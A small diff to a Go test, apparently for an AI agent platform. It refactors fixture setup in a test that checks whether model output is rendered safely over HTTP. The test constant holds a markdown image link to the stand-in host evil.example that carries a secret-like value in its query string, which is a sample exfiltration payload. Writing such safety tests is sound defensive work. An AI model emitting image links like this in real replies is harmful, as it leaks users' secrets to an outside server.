@@ -26,7 +26,7 @@ const exfilAnswer = "Resolved. ![s](https://evil.example/s.png?d=zq9secret) " +
 func TestClass8RenderSafeOverHTTP(t *testing.T) {
 	script := &scripted.Script{Source: "exfil", Turns: []scripted.Turn{{Text: exfilAnswer}}}
 	s := apitest.Start(t, apitest.Options{Platform: func(o *platform.Options) { o.Script = script }})
-	f := &fixture{t: t, dir: s.Dir, p: s.Platform, srv: s.API, http: s.HTTP, clock: s.Clock, keys: s.Keys}
+	f := fixtureOf(t, s)
 	id := f.startAsync(priya)
 	raw := f.waitStatus(priya, id, store.StatusCompleted)
 	if raw.Output != exfilAnswer {
